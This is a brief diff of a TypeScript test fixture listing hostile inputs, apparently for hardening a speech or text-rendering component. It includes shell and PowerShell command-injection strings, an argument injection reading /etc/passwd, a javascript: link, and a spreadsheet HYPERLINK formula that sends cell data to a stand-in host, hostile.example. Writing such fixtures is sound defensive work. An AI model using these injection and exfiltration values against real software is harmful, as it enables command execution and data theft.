@@ -79,7 +79,7 @@ export const hostileTexts: readonly string[] = [
   '[url=javascript:attacked(1)]win[/url][img]//hostile.example/i.png[/img]',
   '<speak><audio src="//hostile.example/a.mp3"/><break time="600s"/><prosody volume="x-loud">HELLO</prosody></speak>',
   '[[h@l@U]] [[_::_]] [[slnc 60000]] [[rate 900]] <say-as interpret-as="x">1</say-as>',
-  '-f /etc/passwd -w /tmp/x.wav --stdout -v en',
+  '-f /etc/passwd -w x.wav --stdout -v en',
   '$(touch hostile) `touch hostile` ; touch hostile | touch hostile && touch hostile > hostile',
   "'; Start-Process calc; ' $(calc) %COMSPEC% ^& calc",
   '=HYPERLINK("//hostile.example/?"&A1,"win")',
